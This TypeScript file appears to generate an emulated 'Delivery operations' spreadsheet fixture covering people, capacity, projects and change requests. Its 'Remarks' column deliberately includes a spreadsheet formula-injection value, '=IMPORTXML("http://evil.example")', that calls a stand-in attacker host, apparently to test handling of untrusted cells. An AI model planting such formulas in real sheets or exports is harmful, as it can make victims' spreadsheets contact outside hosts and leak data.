import type { Spreadsheet } from '@plumbline/google-sheets/emulator';
import { allocationTab, type Allocation } from './allocations.ts';
import { changeRequestName } from './change-orders.ts';
import { dateText } from './days.ts';
import type { ChangeRequest, Person, Project } from './plan.ts';
import { dateColumn, sheetTab, type Column } from './sheet-tab.ts';
import { headOffice } from './vocabulary.ts';

export const operationsSheetId = 'sandbox-delivery-operations';

export interface OperationsRows {
  people: readonly Person[];
  /** With a client: the firm's own projects are in no register. */
  projects: readonly Project[];
  /** Those of the team that keeps its own register. */
  changeRequests: readonly ChangeRequest[];
  allocations: readonly Allocation[];
}

/** What the delivery office keeps: who works here and how much, which projects there are, and one team's change requests. */
export function operationsSheet({ people, projects, changeRequests, allocations }: OperationsRows): Spreadsheet {
  return {
    spreadsheetId: operationsSheetId,
    title: 'Delivery operations',
    locale: 'de_DE',
    timeZone: headOffice.zone,
    tabs: [
      sheetTab({ sheetId: 101, title: 'People' }, personColumns, people),
      sheetTab(
        { sheetId: 102, title: 'Capacity', heading: 'Working time – changes to HR, please' },
        capacityColumns,
        people.filter(({ leftOn }) => leftOn === null),
      ),
      sheetTab({ sheetId: 103, title: 'Projects', heading: 'Project register' }, projectColumns, projects),
      sheetTab({ sheetId: 104, title: 'Change requests' }, changeRequestColumns, changeRequests),
      allocationTab(105, allocations),
    ],
  };
}

const personColumns: readonly Column<Person>[] = [
  { header: 'Name', cell: ({ name }) => name },
  { header: 'E-Mail', cell: ({ email, number }) => (number % 7 === 0 ? `  ${email.toUpperCase()}` : email) },
  { header: 'Role', cell: ({ role }) => role },
  { header: 'Team', cell: ({ team }) => team },
  { header: 'Time zone', cell: ({ region }) => region.zone },
  { header: 'Status', cell: ({ leftOn }) => (leftOn === null ? 'active' : 'left') },
  { header: 'Jira account', cell: ({ accountId, accountListed }) => (accountListed ? accountId : null) },
];

const capacityColumns: readonly Column<Person>[] = [
  { header: 'E-mail', cell: ({ email }) => email },
  { header: 'Hours per day', format: 'NUMBER', cell: ({ hoursPerDay }) => hoursPerDay },
  { header: 'Valid from', cell: () => '2025-01-01' },
  { header: 'Calendar', cell: ({ region }) => region.name },
];

const projectColumns: readonly Column<Project>[] = [
  { header: 'Key', format: 'TEXT', cell: ({ key }) => key },
  { header: 'Project', cell: ({ name }) => name },
  { header: 'Client domain', cell: ({ client }) => client?.domain ?? null },
  { header: 'Currency', cell: ({ currency }) => currency },
  { header: 'Time zone', cell: ({ zone }) => zone },
  dateColumn('Start', ({ start }) => start),
  dateColumn('End', ({ end }) => end),
  { header: 'Status', cell: ({ status }) => status.toLowerCase().replace('_', ' ') },
  { header: 'Manager', cell: ({ manager }) => manager.email },
  // People write what they like here, also what another program would run.
  {
    header: 'Remarks',
    cell: ({ index }) =>
      [null, '=IMPORTXML("http://evil.example")', '<b>watch the budget</b>', 'siehe Protokoll'][index % 4] ?? null,
  },
];

const changeRequestColumns: readonly Column<ChangeRequest>[] = [
  { header: 'No.', format: 'TEXT', cell: (request) => changeRequestName(request) },
  { header: 'Jira issue', cell: ({ issue }) => issue?.key ?? null },
  { header: 'Project', cell: ({ project }) => project.key },
  { header: 'Title', cell: ({ title }) => title },
  { header: 'Origin', cell: ({ origin }) => origin },
  { header: 'State', cell: ({ state }) => state.toLowerCase().replace('_', ' ') },
  { header: 'Submitted', cell: ({ path, project }) => dateText(path[0]?.on ?? project.start) },
  { header: 'Price', format: 'NUMBER', cell: ({ price }) => price },
  { header: 'Currency', cell: ({ project }) => project.currency },
  { header: 'Cost', format: 'NUMBER', cell: ({ cost }) => cost },
  { header: 'Effort (h)', format: 'NUMBER', cell: ({ effortHours }) => effortHours },
  { header: 'Days', format: 'NUMBER', cell: ({ days }) => days },
  { header: 'Requester', cell: ({ requester }) => requester.email },
];
